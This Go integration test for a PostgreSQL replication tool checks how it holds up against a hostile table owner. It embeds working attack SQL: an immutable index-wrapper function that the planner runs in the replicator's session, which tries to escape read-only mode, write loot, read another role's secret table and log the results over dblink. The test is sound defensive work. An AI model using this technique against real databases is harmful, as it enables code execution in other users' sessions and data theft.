package integration

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/pgibex/pgibex/internal/pg"
)

// foldedSchema: an index over an immutable wrapper with constant arguments, as an expression and as a predicate.
const foldedSchema = `CREATE TABLE keyed (id int PRIMARY KEY, v text); CREATE TABLE texts (k text COLLATE "C" PRIMARY KEY, v text);
	CREATE TABLE keyless (a int, v text); CREATE TABLE secret (id int PRIMARY KEY, v text);`

// attack makes the owner of the tables but secret run code in our sessions: while one of our statements is planned, the planner folds the call
// in his index. What the code gains is written to evil.told in a transaction of its own.
const attack = `CREATE EXTENSION dblink;
	CREATE ROLE folding_attacker; CREATE ROLE folding_other; CREATE SCHEMA evil AUTHORIZATION folding_attacker; GRANT USAGE ON SCHEMA evil TO PUBLIC;
	CREATE TABLE evil.told (query text, ro text, wrote text, stayed text, secret text); CREATE TABLE evil.loot (v text); GRANT INSERT ON evil.loot TO PUBLIC;
	CREATE FUNCTION evil.tell(text[]) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN
		PERFORM public.dblink_exec({{dsn}}, format('INSERT INTO evil.told VALUES (%L, %L, %L, %L, %L)', $1[1], $1[2], $1[3], $1[4], $1[5])); END $f$;
	CREATE FUNCTION evil.code(text) RETURNS int LANGUAGE plpgsql AS $f$
	DECLARE wrote text := 'wrote'; stayed text := 'no'; secret text := 'no'; unlocked text := 'on';
	BEGIN
		IF session_user <> {{role}} THEN RETURN 1; END IF;
		BEGIN PERFORM set_config('transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN unlocked := SQLSTATE; END;
		BEGIN INSERT INTO evil.loot VALUES (current_user); EXCEPTION WHEN OTHERS THEN wrote := SQLSTATE; END;
		BEGIN stayed := CASE current_setting('evil.mark') WHEN transaction_timestamp()::text THEN 'no' WHEN '' THEN 'no' ELSE 'stayed' END; EXCEPTION WHEN undefined_object THEN NULL; END;
		PERFORM set_config('evil.mark', transaction_timestamp()::text, false);
		BEGIN SELECT v INTO secret FROM public.secret LIMIT 1; EXCEPTION WHEN OTHERS THEN secret := SQLSTATE; END;
		PERFORM evil.tell(ARRAY[current_query(), current_setting('transaction_read_only'), wrote, stayed, secret]);
		RETURN 1;
	END $f$;
	CREATE FUNCTION evil.wrap(text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN evil.code($1); END $f$;
	CREATE INDEX evil_1 ON keyed (id, (evil.wrap('expression'))); CREATE INDEX evil_2 ON texts (k) WHERE evil.wrap('predicate') > 0;
	CREATE INDEX evil_3 ON keyless (a, (evil.wrap('expression')));
	ALTER TABLE keyed OWNER TO folding_attacker; ALTER TABLE texts OWNER TO folding_attacker; ALTER TABLE keyless OWNER TO folding_attacker;
	ALTER TABLE secret OWNER TO folding_other; INSERT INTO secret VALUES (1, 'the secret');
	CREATE ROLE {{ident}} LOGIN; GRANT folding_attacker, folding_other TO {{ident}}; GRANT CREATE ON DATABASE {{database}} TO {{ident}};`

// TestTheOwnerOfASourceTable runs code in our sessions, which nothing can prevent: the planner does it. It can read what pgibex can, but writes
// nothing, and nothing that it sets outlives the statement.
func TestTheOwnerOfASourceTable(t *testing.T) {
	t.Parallel()
	s := newStream(t, foldedSchema)
	const role = "folding_pgibex"
	s.src(pg.Fill(attack, "dsn", pg.Literal(s.sourceDSN), "role", pg.Literal(role), "ident", pg.Ident(role),
		"database", pg.Ident(one[string](s, s.sourceDSN, "SELECT current_database()::text"))))
	s.t.Cleanup(func() { s.cleanUp(s.sourceDSN, "DROP OWNED BY folding_pgibex, folding_attacker, folding_other CASCADE; DROP ROLE folding_pgibex, folding_attacker, folding_other") })
	s.src(`INSERT INTO keyed SELECT g, repeat('v', 500) FROM generate_series(1, 3000) g; INSERT INTO texts SELECT 'k' || g, repeat('v', 500) FROM generate_series(1, 3000) g;
		INSERT INTO keyless SELECT g % 5, 'v' FROM generate_series(1, 100) g; ANALYZE keyed; ANALYZE texts`)
	s.config.Source.DSN = with(t, s.sourceDSN, func(u *url.URL) { u.User = url.User(role) })
	s.config.Copy.ChunkSize = 64 << 10
	s.config.Tables.Exclude = []string{"evil.*"}
	stop := s.forgetting("evil_1", "evil_2", "evil_3")
	defer stop()

	running := s.run()
	s.streaming()
	for i := range 20 {
		s.src(fmt.Sprintf("UPDATE keyed SET v = 'w%d' WHERE id = %[1]d; UPDATE texts SET v = 'w%[1]d' WHERE k = 'k%[1]d'; INSERT INTO keyless VALUES (%[1]d, 'x')", i))
	}
	s.streaming()
	s.dst(`SET session_replication_role = replica; INSERT INTO keyed VALUES (99999, 'only here'); DELETE FROM keyed WHERE id < 10; INSERT INTO texts VALUES ('only', 'here')`)
	if _, err := s.replicator().Verify(t.Context(), nil); err != nil {
		t.Error(err)
	}
	if _, err := s.replicator().Resync(t.Context(), []string{"public.keyed", "public.texts"}, false); err != nil {
		t.Fatal(err)
	}
	s.resynced("public.keyed", "public.texts")
	running()
	stop()
	for _, table := range []string{"public.keyed", "public.texts", "public.keyless", "public.secret"} {
		s.equalTable(table)
	}

	for _, q := range s.rows(s.sourceDSN, "SELECT DISTINCT regexp_replace(left(query, 100), E'[0-9]+', 'N', 'g') || ' … ro ' || ro || ', wrote ' || wrote || ', ' || stayed || ', ' || secret FROM evil.told ORDER BY 1") {
		t.Log(q)
	}
}

// forgetting has the server forget what it knows of the indexes, all the time, so that each statement is planned with them afresh.
func (s *stream) forgetting(indexes ...string) (stop func()) {
	conn := s.connect(s.sourceDSN)
	ended, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-ended:
				return
			case <-time.After(time.Millisecond):
			}
			_, _ = conn.Exec(s.t.Context(), "UPDATE pg_class SET reltuples = reltuples WHERE relname = ANY ($1)", pgx.QueryExecModeExec, indexes)
		}
	}()
	var once bool
	return func() {
		if !once {
			once = true
			close(ended)
			<-done
		}
	}
}

var _ = strings.Contains
